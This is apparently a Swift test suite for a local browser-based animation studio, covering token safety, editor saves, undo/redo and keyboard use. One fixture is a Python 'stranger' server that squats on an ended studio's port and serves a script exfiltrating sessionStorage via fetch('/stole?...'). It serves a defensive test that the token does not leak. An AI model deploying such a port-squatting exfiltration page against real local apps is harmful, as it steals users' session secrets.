import BrowserSupport
import Foundation
import Testing

/// What keeps the token and the user's text: strangers, other editors, reloads, and pages that go.
extension StudioPageTests {
  private static let script = """
    return {
      name = "Rise", duration = 0.5,
      parameters = { rise = { default = 120, min = 0, max = 400 } },
      frame = function(ctx, progress, presence)
        return { front = { translateY = ctx.parameters.rise * (1 - presence), alpha = presence } }
      end,
    }
    """

  private func rise(_ text: String = script, environment: [String: String] = [:]) throws -> Page {
    let page = try open(
      try StudioProcess(
        ["Rise", "--scenario", "push"], files: ["Rise.lua": text], environment: environment))
    try page.pauseAtStart()
    return page
  }

  private func showCode(_ page: Page) throws {
    try page.tab.evaluate("document.getElementById('tab-code').click()")
    try page.tab.wait(
      until: "document.querySelector('.CodeMirror')?.CodeMirror.getValue().length > 10")
  }

  private func type(_ text: String, at line: Int = 0, in page: Page) throws {
    try page.tab.evaluate(
      """
      { const editor = document.querySelector('.CodeMirror').CodeMirror
        editor.focus()
        editor.replaceRange('\(text)', { line: \(line), ch: 0 }) }
      """)
  }

  private func saveCode(_ page: Page) throws {
    try page.tab.evaluate(
      "[...document.querySelectorAll('#code button')].find((button) => button.textContent === 'Save').click()"
    )
  }

  // MARK: Strangers

  /// A program that takes the port of a studio, and notes what it gets; its page would tell it the tab's secrets.
  private static let stranger = """
    import http.server, sys
    class Handler(http.server.BaseHTTPRequestHandler):
      def do_GET(self):
        with open("heard", "a") as heard: heard.write(self.path + "\\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>stranger</title><script>fetch('/stole?' + JSON.stringify(sessionStorage))</script>")
      def log_message(self, *words): pass
    server = http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler)
    open("ready", "w").close()
    server.serve_forever()
    """

  @Test func `a stranger at the port of an ended studio gets no token`() throws {
    let studio = try StudioProcess(
      ["Rise", "--scenario", "push"],
      files: ["Rise.lua": Self.script, "stranger.py": Self.stranger])
    let page = try open(studio)
    let address = try #require(URL(string: studio.address))
    let (port, token) = (try #require(address.port), try #require(address.fragment))
    #expect(studio.end(SIGTERM) == 143)
    try page.tab.wait(until: "!document.getElementById('gone').hidden")
    let other = try Child(
      ["/usr/bin/python3", "stranger.py", "\(port)"], in: studio.folder.path, descriptors: [2: 2])
    defer { other.signal(SIGTERM) }
    // The page looks once a second, and sees that this is not its studio.
    try page.tab.wait(
      until: "document.getElementById('gone-text').textContent.includes('earlier studio')")
    #expect(try page.tab.text("document.title") != "stranger")
    // A reload by hand brings the stranger's page, which finds nothing.
    try page.tab.reload()
    for _ in 0..<600 where (try? studio.text(of: "heard").contains("/stole?")) != true {
      try? page.tab.wait(frames: 1)
    }
    let heard = try studio.text(of: "heard")
    #expect(heard.contains("/proof?nonce="))
    #expect(heard.contains("/stole?"))
    #expect(!heard.contains(token), "\(heard)")
  }

  @Test func `a studio that is started again at another port has another token`() throws {
    let session = FileManager.default.temporaryDirectory
      .appendingPathComponent("session-\(UUID().uuidString)")
    try FileManager.default.createDirectory(
      at: session, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
    defer { try? FileManager.default.removeItem(at: session) }
    let environment = ["XDG_RUNTIME_DIR": session.path]
    let words = ["Rise", "--scenario", "push"]
    let first = try StudioProcess(
      words, files: ["Rise.lua": Self.script], environment: environment)
    let old = try #require(URL(string: first.address))
    // The first one still has its port.
    let second = try StudioProcess(words, in: first.folder, environment: environment)
    let new = try #require(URL(string: second.address))
    #expect(new.port != old.port)
    #expect(new.fragment != old.fragment)
  }

  // MARK: The text of a script

  @Test func `a text is not written over a change that the user has not answered`() throws {
    let page = try rise()
    try showCode(page)
    try type("-- here\\n", in: page)
    try page.studio.save("-- there\n" + Self.script, to: "Rise.lua")
    try page.tab.wait(until: "document.querySelector('#code .ask')?.hidden === false")
    try saveCode(page)
    try page.tab.wait(
      until: "document.getElementById('note').textContent.startsWith('The file was changed')")
    #expect(try page.studio.text(of: "Rise.lua").hasPrefix("-- there"))
    try page.click("Keep what is here")
    try saveCode(page)
    try page.tab.wait(until: "document.getElementById('note').textContent.startsWith('Saved')")
    #expect(try page.studio.text(of: "Rise.lua").hasPrefix("-- here"))
    #expect(page.tab.complaints == [])
  }

  @Test(arguments: ["\r\n", "\n"])
  func `the editor keeps the ends of lines`(end: String) throws {
    let text = Self.script.replacingOccurrences(of: "\n", with: end)
    let page = try rise(text)
    try showCode(page)
    try type("-- more", at: 5, in: page)
    try saveCode(page)
    try page.tab.wait(until: "document.getElementById('note').textContent.startsWith('Saved')")
    #expect(
      try page.studio.text(of: "Rise.lua")
        == text.replacingOccurrences(of: "\(end)  end,", with: "\(end)-- more  end,"))
    #expect(page.tab.complaints == [])
  }

  @Test func `the editor keeps the keyboard when the file changes elsewhere`() throws {
    let page = try rise()
    try showCode(page)
    try page.tab.evaluate("document.querySelector('.CodeMirror').CodeMirror.focus()")
    try page.studio.save("-- there\n" + Self.script, to: "Rise.lua")
    try page.tab.wait(
      until: "document.querySelector('.CodeMirror').CodeMirror.getValue().startsWith('-- there')")
    #expect(
      try page.tab.evaluate("document.querySelector('.CodeMirror').CodeMirror.hasFocus()") as? Bool
        == true)
  }

  @Test func `the text of an installed animator goes into a copy, or where the user says`() throws {
    let studio = try StudioProcess(["CrossDissolve", "--scenario", "push"])
    let page = try open(studio)
    try page.pauseAtStart()
    try showCode(page)
    #expect(
      try page.tab.text("document.querySelector('#code .installed:not([hidden])').textContent")
        .contains(
          "is installed with Interlude"))
    try type("-- mine\\n", in: page)
    try saveCode(page)
    try page.tab.wait(
      until: "document.getElementById('note').textContent.startsWith('The file is installed')")
    try page.click("Write into a copy")
    try page.tab.wait(until: "document.getElementById('note').textContent.startsWith('Saved')")
    #expect(try studio.text(of: "CrossDissolve.lua").hasPrefix("-- mine"))
    try page.tab.wait(until: "!document.querySelector('#code .installed:not([hidden])')")
    #expect(page.tab.complaints == [])
  }

  // MARK: Values

  @Test func `undo and redo survive a reload`() throws {
    let page = try rise()
    for value in ["200", "300"] {
      try page.turn("rise", to: value)
      try page.tab.wait(until: "document.getElementById('parameter-rise').value === '\(value)'")
      // Another step, not the same movement of the slider.
      try page.tab.evaluate("new Promise((resolve) => setTimeout(resolve, 900))")
    }
    try page.click("Undo")
    try page.tab.wait(until: "document.getElementById('parameter-rise').value === '200'")
    try page.tab.reload()
    try page.tab.wait(
      until:
        "document.body?.dataset.loaded === '1' && document.getElementById('parameter-rise').value === '200'"
    )
    try page.click("Redo")
    try page.tab.wait(until: "document.getElementById('parameter-rise').value === '300'")
    for value in ["200", "120"] {
      try page.click("Undo")
      try page.tab.wait(until: "document.getElementById('parameter-rise').value === '\(value)'")
    }
    #expect(page.tab.complaints == [])
  }

  @Test func `undoing a save names the file and shows its lines first`() throws {
    let page = try rise()
    try page.turn("rise", to: "200")
    try page.tab.wait(until: "document.body.dataset.loaded === '2'")
    try page.click("Save to")
    try page.tab.wait(until: "document.getElementById('saving').open")
    try page.tab.evaluate("document.querySelector('#saving .confirm').click()")
    try page.tab.wait(until: "document.querySelector('#parameters .undo')?.hidden === false")
    try page.click("Undo the save")
    try page.tab.wait(until: "document.getElementById('saving').open")
    #expect(
      try page.tab.text("document.querySelector('#saving h2').textContent").hasSuffix("Rise.lua"))
    #expect(
      try page.tab.text("document.querySelector('#saving .new').textContent").contains(
        "default = 120"))
    #expect(try page.studio.text(of: "Rise.lua").contains("default = 200"))
    try page.tab.evaluate("document.querySelector('#saving .confirm').click()")
    try page.tab.wait(until: "document.querySelector('#parameters .undo').hidden")
    #expect(try page.studio.text(of: "Rise.lua") == Self.script)
    #expect(page.tab.complaints == [])
  }

  @Test func `keys work while a checkbox or a slider has the focus`() throws {
    let page = try rise()
    try page.tab.evaluate("document.getElementById('exact-switch').focus()")
    try page.tab.press("l")
    try page.tab.wait(
      until: "document.getElementById('play').getAttribute('aria-label') === 'Pause'")
    try page.tab.press("k")
    try page.tab.wait(
      until: "document.getElementById('play').getAttribute('aria-label') === 'Play'")
    try page.seek(to: 3)
    try page.tab.evaluate("document.getElementById('exact-switch').focus()")
    try page.tab.press("ArrowRight")
    #expect(try page.tab.number("Number(document.getElementById('scrubber').value)") == 4)
    try page.tab.evaluate("document.querySelector('[aria-label=rise]').focus()")
    try page.tab.press("ArrowRight")
    #expect(try page.tab.number("Number(document.getElementById('scrubber').value)") == 4)
    try page.tab.press("l")
    try page.tab.wait(
      until: "document.getElementById('play').getAttribute('aria-label') === 'Pause'")
    #expect(page.tab.complaints == [])
  }

  // MARK: The inspector

  @Test func `of two views with one id the inspector takes the one under the pointer`() throws {
    let scenario = """
      { interlude: 1, name: "twins", controllers: {
          one: { bars: false, views: [{ id: "photo", frame: [0, 0, 100, 100], background: "#ff0000" }] },
          two: { bars: false, views: [{ id: "photo", frame: [200, 500, 50, 60], background: "#00ff00" }] } },
        root: { controller: "one" }, actions: [{ at: 0, do: "present", controller: "two", style: "overFullScreen" }] }
      """
    let studio = try StudioProcess(
      ["Rise", "--scenario", "./twins.json"],
      files: ["Rise.lua": Self.script, "twins.json": scenario])
    let page = try open(studio)
    try page.pauseAtStart()
    try page.seek(to: 60)
    try page.tab.evaluate("document.getElementById('tab-inspect').click()")
    try page.drag(.mouse, from: (225, 530), to: (225, 530), steps: 1)
    try page.release(.mouse, at: (225, 530))
    try page.tab.wait(until: "document.querySelector('.path strong')?.textContent === 'photo'")
    let text = try page.tab.text("document.querySelector('#inspect dl').textContent")
    #expect(text.contains("width50"), "\(text)")
    #expect(try page.tab.text("document.querySelector('#screen .inspected').style.width") == "50px")
    #expect(page.tab.complaints == [])
  }

  // MARK: Pages that go, and pages that wait

  /// What a folder has of films.
  private func films(in folder: URL) throws -> [String] {
    try FileManager.default.contentsOfDirectory(atPath: folder.path)
      .filter { $0.hasPrefix("interlude-film-") }
  }

  @Test(arguments: [true, false])
  func `a film ends with its page and with its studio, and leaves no folder`(isPage: Bool) throws {
    let folder = FileManager.default.temporaryDirectory
      .appendingPathComponent("films-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: folder) }
    // A long film.
    let slow = Self.script.replacingOccurrences(of: "duration = 0.5", with: "duration = 20")
    let page = try rise(slow, environment: ["TMPDIR": folder.path])
    try page.tab.evaluate("document.getElementById('tab-export').click()")
    try page.click("GIF")
    for _ in 0..<600 where try films(in: folder).isEmpty { try page.tab.wait(frames: 1) }
    #expect(try films(in: folder).count == 1)
    if isPage {
      page.tab.close()
      let other = try open(page.studio)
      for _ in 0..<600 where try !films(in: folder).isEmpty { try other.tab.wait(frames: 1) }
    } else {
      #expect(page.studio.end(SIGTERM) == 143)
    }
    #expect(try films(in: folder) == [])
  }

  @Test func `without a folder for temporary files, the terminal says that nothing can be drawn`()
    throws
  {
    let studio = try StudioProcess(
      ["Cover"], environment: ["TMPDIR": "/nowhere"],
      // Errors come with what it prints.
      through: ["/bin/sh", "-c", "exec \"$@\" 2>&1", "sh"])
    #expect(
      studio.greeting.contains("the bundled font can't be unpacked into '/nowhere'"),
      "\(studio.greeting)")
  }

  @Test func `a long run of one page doesn't hold up another page`() throws {
    // A script's budget ends a slow one soon, so the run has many frames.
    let long = Self.script.replacingOccurrences(of: "duration = 0.5", with: "duration = 40")
      .replacingOccurrences(of: "name = \"Rise\"", with: "name = \"Long\"")
    let scenario = """
      { interlude: 1, name: "many frames", device: "iPhone 15", frameRate: 400,
        controllers: { inbox: {}, message: {} }, root: { navigation: ["inbox"] },
        actions: [{ at: 0, do: "push", controller: "message" }] }
      """
    let studio = try StudioProcess(
      ["Rise", "--scenario", "./many.json"],
      files: ["Rise.lua": Self.script, "Long.lua": long, "many.json": scenario])
    let (one, other) = (try open(studio), try open(studio))
    try other.pauseAtStart()
    try one.tab.evaluate(
      "document.getElementById('subject').append(new Option('Long', 'Long'))")
    try one.choose("subject", "Long")
    // The other page asks for its runs meanwhile, and gets them before the long one is done.
    try other.tab.bringToFront()
    try other.turn("rise", to: "250")
    try other.tab.wait(until: "document.body.dataset.loaded === '2'")
    #expect(try one.tab.text("document.body.dataset.loaded") == "1")
    try one.tab.bringToFront()
    try one.tab.wait(until: "document.body.dataset.loaded === '2'", milliseconds: 120_000)
    #expect(one.tab.complaints + other.tab.complaints == [])
  }

  // MARK: The keyboard

  @Test func `a gesture can be made from the keyboard, and names are words`() throws {
    let page = try open(try StudioProcess(["plugin:SwipeToPop", "--scenario", "swipe-pop"]))
    try page.pauseAtStart()
    let names = try page.tab.text(
      "[...document.querySelectorAll('#screen .taps')].map((view) => view.ariaLabel).join()")
    #expect(names.contains("back, message"), "\(names)")
    try page.tab.press("g")
    for _ in 0..<5 { try page.tab.press("ArrowLeft", shift: true) }
    try page.tab.press("Enter")
    for _ in 0..<5 {
      try page.tab.press("ArrowRight", shift: true)
      try page.tab.wait(frames: 2)
    }
    try page.tab.wait(until: "\(Page.left(of: "message")) === 250")
    #expect(try page.tab.number("document.querySelectorAll('.finger').length") == 1)
    try page.tab.press("Enter")
    try page.rest()
    #expect(try page.events().contains("InteractiveTransition"))
    try page.tab.press("Escape")
    #expect(try page.tab.number("document.querySelectorAll('.finger').length") == 0)
    #expect(page.tab.complaints == [])
  }
}
